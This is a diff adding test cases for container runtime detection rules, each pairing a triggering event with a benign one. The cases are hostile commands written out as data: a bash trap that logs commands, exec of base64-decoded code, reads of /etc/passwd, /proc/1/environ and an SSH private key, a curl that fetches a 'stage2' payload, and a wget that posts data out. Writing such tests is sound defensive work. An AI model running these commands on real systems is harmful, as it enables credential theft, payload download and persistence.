@@ -5,6 +5,7 @@ The table below must cover every rule id in rules/: a new rule without cases fai
 
 from __future__ import annotations
 
+import dataclasses
 import shlex
 from collections import Counter
 from pathlib import Path
@@ -608,6 +609,57 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
     "persistence.shell-trap": (
         run("/bin/bash -c 'trap \"echo $BASH_COMMAND >> /tmp/k\" DEBUG; id'"),
         run("/bin/bash -c 'trap \"rm -f /tmp/lock\" EXIT; id'"),
+    ),
+    # ------------------------------------------------------------------ issue 21, second pass
+    "foothold.script-not-in-image": (
+        dataclasses.replace(run("python3 T1059.006.py"), script_drift="new"),
+        # the image's own script; and a dropped one run by pip's build step
+        dataclasses.replace(run("python3 /app/main.py"), script_drift="none"),
+    ),
+    "foothold.interpreter-inline-decode": (
+        run("python3 -c 'import base64;exec(base64.b64decode(\"aW1wb3J0IG9z\"))'"),
+        run("python3 -c 'import base64;print(base64.b64encode(b\"x\"))'"),
+    ),
+    "foothold.busybox-shell-by-name": (
+        run("busybox sh", exe="/bin/busybox"),
+        run("busybox ls /", exe="/bin/busybox"),
+    ),
+    "privilege_escalation.account-file-read": (
+        run("cat /etc/passwd"),
+        run("grep -q ^app: /etc/passwd"),  # an entrypoint checking for its user
+    ),
+    "privilege_escalation.service-manager-queried-in-container": (
+        run("systemctl list-units --type=service --all"),
+        run("systemctl --version"),
+    ),
+    "lateral_movement.cleartext-remote-client": (
+        run("telnet 127.0.0.1 8081"),
+        run("nc -zv db 5432"),
+    ),
+    "objectives.download-tool-custom-agent": (
+        run("curl -s -A 'Opera/8.81 (Windows NT 6.0; U; en)' -m3 http://10.0.0.1/"),
+        run("curl -fsS -H 'Accept: application/json' http://api:8080/health"),
+    ),
+    "objectives.wget-posts-data": (
+        run("wget --post-data=msg=hello --timeout=5 https://10.0.0.1/"),
+        run("wget -q -O- http://127.0.0.1:8080/health"),
+    ),
+    "privilege_escalation.process-environment-read": (
+        file_access("/proc/1/environ", ("read",), exe="/usr/bin/cat"),
+        file_access("/proc/1/environ", ("read",), exe="/usr/bin/ps"),
+    ),
+    "privilege_escalation.ssh-private-key-read": (
+        file_access("/root/.ssh/id_ed25519", ("read",), exe="/usr/bin/base64"),
+        file_access("/root/.ssh/id_ed25519", ("read",), exe="/usr/bin/ssh"),
+    ),
+    "foothold.network-tool-in-package-install": (
+        run("curl -fsSL http://10.0.0.1/stage2 -o /tmp/s", parent="/bin/sh",
+            ancestors=("/usr/bin/node", "/usr/bin/npm")),
+        run("curl -fsSL http://10.0.0.1/stage2 -o /tmp/s", parent="/bin/sh"),
+    ),
+    "foothold.file-padded": (
+        run("truncate -s +1 /tmp/evil-binary"),
+        run("truncate -s 0 /var/log/app.log"),
     ),
 }
 
